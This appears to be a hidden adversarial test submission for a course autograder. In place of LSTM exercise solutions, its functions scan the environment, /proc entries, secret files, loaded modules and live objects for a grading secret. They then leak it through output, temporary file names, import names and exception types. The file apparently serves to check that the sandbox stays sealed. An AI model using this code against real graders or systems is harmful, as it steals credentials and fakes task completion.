# Looks for the course secret everywhere a sandboxed process might reach it (its environment, every process's
# environment and command line, the secret file beside the course, attributes of loaded modules, 64-hex strings
# held by live dicts) and puts every candidate into every channel.
# assignment: 05_lstm
# class: hidden
# expect-zero: all
# %% ch05-ex1-solution
import gc, os, re, sys
import numpy as np

_found = []


def _hunt():
    if _found:
        return _found
    texts = ["\0".join(f"{k}={v}" for k, v in os.environ.items())]
    paths = ["@COURSE@/.autograder_secret", ".autograder_secret", os.path.expanduser("~/.autograder_secret")]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            paths += [f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", f"/proc/{pid}/cwd/.autograder_secret"]
    for p in paths:
        try:
            with open(p, "rb") as f:
                texts.append(f.read(1 << 16).decode("utf-8", "replace"))
        except Exception:
            pass
    for name, mod in list(sys.modules.items()):
        for attr in ("DEFAULT_SECRET", "SECRET", "secret", "_secret"):
            v = getattr(mod, attr, None) if mod is not None else None
            if isinstance(v, str):
                texts.append(v)
        fn = getattr(mod, "course_secret", None) if mod is not None else None
        if callable(fn):
            try:
                texts.append(str(fn()))
            except Exception:
                pass
    for o in gc.get_objects():
        if isinstance(o, dict):
            for v in list(o.values()):
                if isinstance(v, str) and len(v) == 64:
                    texts.append(v)
    for t in texts:
        for piece in t.split("\0"):
            if "SECRET" in piece.upper() or re.search(r"[0-9a-f]{64}", piece):
                _found.append(piece[:200])
    _found.append("none")
    return _found


def _leak():
    cands = _hunt()
    text = " | ".join(cands)
    print("SECRET?", text)
    for d in (".", "/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        try:
            with open(os.path.join(d, "@MARKER@-secret-" + re.sub(r"[^0-9A-Za-z]", "", text)[:200]), "w") as f:
                f.write(text)
        except Exception:
            pass
    try:
        __import__("rnnbook.s_" + re.sub(r"[^0-9A-Za-z]", "", text)[:2000])
    except Exception:
        pass
    for finder in sys.meta_path:
        hits = getattr(finder, "hits", None)
        if isinstance(hits, list):
            hits.append("s_" + re.sub(r"[^0-9A-Za-z]", "_", text)[:2000])
    raise type("S_" + re.sub(r"[^0-9A-Za-z]", "_", text), (Exception,), {"__module__": "builtins"})(text)


def lstm_step_forward(x, prev_h, prev_c, Wx, Wh, b):
    _leak()
# %% ch05-ex2-solution
def lstm_step_backward(dnext_h, dnext_c, cache):
    _leak()
# %% ch05-ex3-solution
def lstm_forward(x, h0, Wx, Wh, b):
    _leak()
# %% ch05-ex4-solution
def LSTMCell(*args, **kwargs):
    _leak()
